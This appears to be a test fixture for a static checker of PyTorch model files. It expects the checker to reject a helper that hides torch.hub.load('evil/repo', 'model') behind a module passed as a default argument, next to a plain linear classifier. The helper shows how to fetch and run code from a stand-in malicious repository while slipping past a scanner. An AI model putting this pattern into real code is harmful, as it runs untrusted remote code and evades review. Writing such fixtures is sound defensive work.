# expect: static - def f(m=torch.nn.functional): a module as a default argument
# match: may only be used as
import torch
import torch.nn as nn


def helper(x, m=torch.nn.functional):
    return m.torch.hub.load("evil/repo", "model")


class Net(nn.Module):
    def __init__(self, in_channels, num_classes):
        super().__init__()
        self.fc = nn.Linear(in_channels, num_classes)

    def forward(self, x):
        return self.fc(x.mean(dim=(2, 3)))
